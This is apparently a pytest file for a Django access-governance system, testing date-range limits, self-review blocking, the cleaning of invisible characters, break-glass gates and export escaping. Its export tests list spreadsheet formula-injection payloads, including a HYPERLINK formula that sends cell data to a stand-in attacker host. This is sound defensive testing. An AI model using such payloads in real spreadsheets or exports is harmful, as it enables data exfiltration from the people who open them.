"""Access governance after the second review: periods outside a sane span, review items
decided twice or by their own holder, silent purposes and reasons, spreadsheet formulas
in exports, the break-glass gates checked before the form names anything, and ids
typed into forms. Every refusal is recorded."""

from __future__ import annotations

import io
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from django.utils import timezone

from baomi.access import exports, services
from baomi.access.models import (
    ConfidentialityAgreement,
    GrantKind,
    Purpose,
    QueryRequest,
    ReviewDecision,
    ReviewItem,
    TrainingRecord,
)
from baomi.accounts.models import Level, Role
from baomi.audit.models import LedgerEntry
from baomi.clients.models import Assignment
from baomi.core.http import positive_id
from baomi.errors import AccessDenied, Conflict, ValidationFailed
from baomi.policy import Rule
from baomi.vault import services as vault_services
from baomi.vault.tests.conftest import sealed_upload
from conftest import agreement_scan

pytestmark = pytest.mark.django_db


def refused(action: str, reason: str) -> LedgerEntry:
    entry = LedgerEntry.objects.filter(action=action, decision="refused",
                                       reason__startswith=reason).order_by("-seq").first()
    assert entry is not None, (action, reason, list(
        LedgerEntry.objects.filter(decision="refused").values_list("action", "reason")))
    return entry


@pytest.fixture
def firm(make_user: Any, make_client: Any) -> dict[str, Any]:
    admin = make_user("admin", role=Role.ADMIN, clearance=Level.SECRET)
    manager = make_user("manager", role=Role.MANAGER, department="一部", clearance=Level.SECRET)
    acct = make_user("acct", department="一部", clearance=Level.SECRET)
    compliance = make_user("compliance", role=Role.COMPLIANCE, clearance=Level.SECRET)
    client = make_client(manager, name="恒信贸易有限公司")
    services.assignment_add(actor=manager, client=client, user=acct)
    return {"admin": admin, "manager": manager, "acct": acct, "compliance": compliance,
            "client": client}


def _doc(actor: Any, client: Any, level: str, title: str = "文件") -> Any:
    up = sealed_upload(actor=actor, client=client, data=b"content")
    return vault_services.document_upload(actor=actor, client=client, upload=up, title=title,
                                          level=level, category="financial")


def _request(actor: Any, client: Any, purpose: str = "记账", **kw: Any) -> QueryRequest:
    now = timezone.now()
    return services.request_create(
        actor=actor, client=client, scope=services.ScopeInput(levels=["internal"]),
        purpose=purpose, valid_from=kw.get("valid_from", now),
        valid_to=kw.get("valid_to", now + timedelta(days=3)))


# --- Ids typed into forms ------------------------------------------------------------------


@pytest.mark.parametrize(("raw", "expected"), [
    ("12", 12), (" 7 ", 7), (str(2**63 - 1), 2**63 - 1),
    ("²", None), ("١٢", None), ("1" * 5000, None), (str(2**63), None), ("0", None),
    ("-1", None), ("+1", None), ("1.0", None), ("", None), (None, None),
])
def test_positive_id_takes_ascii_digits_within_64_bits(raw: str | None,
                                                       expected: int | None) -> None:
    assert positive_id(raw) == expected


# --- Periods outside the span ---------------------------------------------------------------

YEAR_1 = datetime.fromisoformat("0001-01-01T00:00:00+14:00")
YEAR_9999 = datetime.fromisoformat("9999-12-31T23:59:59-14:00")


def test_a_request_window_that_cannot_be_converted_to_utc_is_refused(firm):
    for start, end in ((YEAR_1, YEAR_1 + timedelta(days=1)),
                       (YEAR_9999 - timedelta(days=1), YEAR_9999),
                       # a form's naive year 1, made aware in the firm's zone
                       (timezone.make_aware(datetime(1, 1, 1)),
                        timezone.make_aware(datetime(1, 1, 2)))):
        with pytest.raises(ValidationFailed) as info:
            _request(firm["acct"], firm["client"], valid_from=start, valid_to=end)
        assert info.value.code == "period_out_of_range"
        assert "1900" in str(info.value.message)
    assert refused("query_request.create", "period_out_of_range")
    assert not QueryRequest.objects.exists()


def test_agreement_training_and_authorization_periods_are_bounded(firm, make_user):
    person = make_user("newcomer", compliant=False)
    start = timezone.now()
    with pytest.raises(ValidationFailed) as info:
        services.agreement_record(actor=firm["admin"], person=person, kind="employee",
                                  valid_from=start, valid_to=YEAR_9999)
    assert info.value.code == "period_out_of_range"
    assert info.value.detail["fields"].keys() == {"valid_to"}
    assert refused("agreement.record", "period_out_of_range")
    with pytest.raises(ValidationFailed):
        services.training_record(actor=firm["admin"], person=person, course="保密培训",
                                 valid_from=YEAR_1, valid_to=start)
    assert refused("training.record", "period_out_of_range")
    partner = make_user("partner", role=Role.PARTNER)
    with pytest.raises(ValidationFailed):
        services.authorization_form_issue(
            actor=firm["manager"], client=firm["client"], grantee_user_id=partner.pk,
            grantee_org_id=None, scope=services.ScopeInput(levels=["internal"]),
            valid_from=start, valid_to=YEAR_9999)
    assert refused("authorization.form", "period_out_of_range")
    with pytest.raises(ValidationFailed):
        services.authorization_grant(
            actor=firm["manager"], client=firm["client"], grantee_user=partner,
            scope=services.ScopeInput(levels=["internal"]), valid_from=start,
            valid_to=YEAR_9999)
    assert refused("authorization.grant", "period_out_of_range")
    assert not ConfidentialityAgreement.objects.filter(person=person).exists()
    assert not TrainingRecord.objects.filter(person=person).exists()


def test_the_span_is_1900_to_2199(firm, make_user):
    person = make_user("veteran", compliant=False)
    services.agreement_record(actor=firm["admin"], person=person, kind="employee",
                              valid_from=datetime(1900, 1, 1, tzinfo=UTC),
                              valid_to=datetime(2199, 12, 31, 23, 59, tzinfo=UTC),
                              **agreement_scan())
    with pytest.raises(ValidationFailed):
        services.agreement_record(actor=firm["admin"], person=person, kind="auditor",
                                  valid_from=datetime(1899, 12, 31, 23, 59, tzinfo=UTC),
                                  valid_to=datetime(2000, 1, 1, tzinfo=UTC))
    with pytest.raises(ValidationFailed):
        services.agreement_record(actor=firm["admin"], person=person, kind="auditor",
                                  valid_from=datetime(2000, 1, 1, tzinfo=UTC),
                                  valid_to=datetime(2200, 1, 1, tzinfo=UTC))


def test_a_review_deadline_must_be_aware_and_in_the_span(firm):
    for deadline, code in ((YEAR_9999, "period_out_of_range"),
                           (datetime(2100, 1, 1), "period_naive")):  # naive: the point
        with pytest.raises(ValidationFailed) as info:
            services.review_campaign_create(actor=firm["compliance"], name="Q",
                                            deadline=deadline)
        assert info.value.code == code
        assert refused("access_review.create", code)


# --- Access reviews: decided once, never by the holder --------------------------------------


def _campaign(firm: dict[str, Any]) -> Any:
    return services.review_campaign_create(actor=firm["compliance"], name="Q",
                                           deadline=timezone.now() + timedelta(days=3))


def _item(campaign: Any, holder: Any) -> ReviewItem:
    return ReviewItem.objects.get(campaign=campaign, grant_kind=GrantKind.ASSIGNMENT,
                                  holder=str(holder))


def test_a_decided_item_cannot_be_decided_again(firm):
    item = _item(_campaign(firm), firm["acct"])
    assert item.reviewer_id == firm["manager"].pk
    services.review_decide(actor=firm["manager"], item=item, confirm=False)
    assert not Assignment.objects.filter(pk=item.grant_id).exists()
    with pytest.raises(Conflict) as info:
        services.review_decide(actor=firm["manager"], item=item, confirm=True)
    assert info.value.code == "review_not_pending"
    assert info.value.http_status == 409
    assert refused("access_review.confirm", "review_not_pending")
    item.refresh_from_db()
    assert item.decision == ReviewDecision.REVOKED
    # A stale copy of the item (another tab) is refused the same way.
    stale = ReviewItem.objects.get(pk=item.pk)
    stale.decision = ReviewDecision.PENDING
    with pytest.raises(Conflict):
        services.review_decide(actor=firm["manager"], item=stale, confirm=False)
    assert ReviewItem.objects.get(pk=item.pk).decision == ReviewDecision.REVOKED


def test_a_confirmed_item_cannot_be_revoked_afterwards(firm):
    item = _item(_campaign(firm), firm["acct"])
    services.review_decide(actor=firm["manager"], item=item, confirm=True)
    with pytest.raises(Conflict):
        services.review_decide(actor=firm["manager"], item=item, confirm=False)
    assert refused("access_review.revoke", "review_not_pending")
    assert Assignment.objects.filter(pk=item.grant_id).exists()
    assert ReviewItem.objects.get(pk=item.pk).decision == ReviewDecision.CONFIRMED


def test_a_managers_own_grant_goes_to_another_reviewer(firm, make_user):
    services.assignment_add(actor=firm["admin"], client=firm["client"], user=firm["manager"])
    item = _item(_campaign(firm), firm["manager"])
    assert item.reviewer_id == firm["compliance"].pk  # the department's only manager
    second = make_user("manager2", role=Role.MANAGER, department="一部")
    item = _item(_campaign(firm), firm["manager"])
    assert item.reviewer_id == second.pk  # the department's next manager
    # Everyone else's grants still go to the first manager.
    assert _item(item.campaign, firm["acct"]).reviewer_id == firm["manager"].pk


def test_a_query_request_of_compliance_goes_to_the_department_manager(firm):
    row = _request(firm["compliance"], firm["client"], purpose="审计")
    services.request_approve(actor=firm["manager"], request=row)
    campaign = _campaign(firm)
    item = ReviewItem.objects.get(campaign=campaign, grant_kind=GrantKind.QUERY_REQUEST)
    assert item.reviewer_id == firm["manager"].pk


def test_reviewing_ones_own_grant_is_refused_and_recorded(firm):
    services.assignment_add(actor=firm["admin"], client=firm["client"], user=firm["manager"])
    item = _item(_campaign(firm), firm["manager"])
    # An item listed before reviewers were chosen apart from holders.
    ReviewItem.objects.filter(pk=item.pk).update(reviewer=firm["manager"])
    item.refresh_from_db()
    with pytest.raises(AccessDenied) as info:
        services.review_decide(actor=firm["manager"], item=item, confirm=True)
    assert info.value.code == "self_review"
    assert refused("access_review.confirm", "self_review")
    assert ReviewItem.objects.get(pk=item.pk).decision == ReviewDecision.PENDING


# --- Silent purposes and reasons ----------------------------------------------------------

SILENT = ["\u200b", "\u200b\u200c\u2060", "\x00", "\x1b", "\ufeff", " \u3000\t", "\u202e"]


@pytest.mark.parametrize("purpose", SILENT)
def test_a_silent_query_purpose_is_refused_and_recorded(firm, purpose):
    with pytest.raises(ValidationFailed) as info:
        _request(firm["acct"], firm["client"], purpose=purpose)
    assert info.value.code == "purpose_required"
    assert refused("query_request.create", "purpose_required")
    assert not QueryRequest.objects.exists()


def test_the_stated_purpose_is_stored_cleaned(firm):
    row = _request(firm["acct"], firm["client"], purpose="\ufeff月度\u200b记账\x00  核对\x1b[2J")
    assert row.purpose == "月度记账 核对[2J"
    entry = LedgerEntry.objects.filter(action="query_request.create",
                                       decision="allowed").order_by("-seq").first()
    assert entry is not None and entry.purpose == row.purpose


@pytest.mark.parametrize("reason", ["\u200b", "\x1b[2J"[:1], "\ufeff\u2060"])
def test_a_silent_break_glass_reason_is_refused_and_recorded(firm, make_user, reason):
    doc = _doc(firm["acct"], firm["client"], "internal")
    outsider = make_user("mgr2", role=Role.MANAGER, department="二部", clearance=Level.SECRET)
    with pytest.raises(AccessDenied) as info:
        services.break_glass_download(actor=outsider, document=doc, reason=reason,
                                      purpose="审计")
    assert info.value.code == "break_glass_reason_required"
    assert refused("break_glass.read", "break_glass_reason_required")


def test_the_break_glass_reason_is_stored_cleaned(firm, make_user):
    from baomi.access.context import session_facts
    from baomi.access.models import BreakGlassRead

    doc = _doc(firm["acct"], firm["client"], "internal")
    outsider = make_user("mgr2", role=Role.MANAGER, department="二部", clearance=Level.SECRET)
    with session_facts(mfa_verified=True):
        dl = services.break_glass_download(actor=outsider, document=doc,
                                           reason="客户\u200b来电\x07核对", purpose="审计")
    dl.close()
    assert BreakGlassRead.objects.get().reason == "客户来电核对"


@pytest.mark.parametrize("text", ["\u200b", "\ufeff\x00"])
def test_a_silent_purpose_is_not_added_to_the_list(firm, text):
    before = Purpose.objects.count()
    with pytest.raises(ValidationFailed) as info:
        services.purpose_add(actor=firm["compliance"], text=text)
    assert info.value.code == "purpose_required"
    assert refused("purpose.create", "purpose_required")
    assert Purpose.objects.count() == before


# --- Exports --------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "-2+3", "@SUM(A1)",
           "\tx", "\r=1"]


def test_the_xlsx_export_writes_every_cell_as_text(firm):
    import openpyxl

    campaign = _campaign(firm)
    campaign.name = "=1+1"
    campaign.save()
    base = ReviewItem.objects.filter(campaign=campaign).first()
    assert base is not None
    for n, text in enumerate(HOSTILE):
        ReviewItem.objects.create(campaign=campaign, grant_kind=GrantKind.QUERY_REQUEST,
                                  grant_id=1000 + n, holder=text, client=firm["client"],
                                  client_name=text, description=text)
    ws = openpyxl.load_workbook(io.BytesIO(exports.review_xlsx(campaign))).active
    assert ws is not None
    cells = [cell for row in ws.iter_rows() for cell in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    # Shown exactly as typed, as text.
    assert set(HOSTILE) <= values and "=1+1" in values
    assert all(c.quotePrefix for c in cells if c.value in HOSTILE)


def test_exports_drop_characters_xml_forbids(firm):
    import openpyxl
    from pypdf import PdfReader

    campaign = _campaign(firm)
    ReviewItem.objects.create(campaign=campaign, grant_kind=GrantKind.QUERY_REQUEST,
                              grant_id=999, holder="王\x01五", client=firm["client"],
                              client_name="恒信\x0b贸易", description="记账\x01\x02\ufffe核对")
    ws = openpyxl.load_workbook(io.BytesIO(exports.review_xlsx(campaign))).active
    assert ws is not None
    values = {c.value for row in ws.iter_rows() for c in row}
    assert {"王五", "恒信贸易", "记账核对"} <= values
    text = "".join(p.extract_text() for p in PdfReader(
        io.BytesIO(exports.review_pdf(campaign))).pages)
    assert "记账核对" in text


# --- Break-glass: the gates before the form ------------------------------------------------


def test_break_glass_refusal_checks_the_gates_without_the_reason(firm, make_user):
    from baomi.access.context import session_facts

    doc = _doc(firm["acct"], firm["client"], "confidential")
    secret = _doc(firm["acct"], firm["client"], "secret")
    able = make_user("mgr2", role=Role.MANAGER, department="二部", clearance=Level.SECRET)
    unsigned = make_user("mgr3", role=Role.MANAGER, department="二部", clearance=Level.SECRET,
                         compliant=False)
    low = make_user("mgr4", role=Role.MANAGER, department="二部", clearance=Level.INTERNAL)
    with session_facts(mfa_verified=True):
        assert services.break_glass_refusal(actor=able, document=doc) is None
        assert services.break_glass_refusal(actor=unsigned, document=doc) is \
            Rule.AGREEMENT_MISSING
        assert services.break_glass_refusal(actor=low, document=doc) is \
            Rule.CLEARANCE_INSUFFICIENT
        # 绝密 documents are closed to managers' downloads: break-glass cannot open them.
        assert services.break_glass_refusal(actor=able, document=secret) is not None
        assert services.break_glass_refusal(actor=firm["acct"], document=doc) is \
            Rule.BREAK_GLASS_NOT_PERMITTED
    with session_facts(mfa_verified=False):
        assert services.break_glass_refusal(actor=able, document=doc) is Rule.MFA_REQUIRED
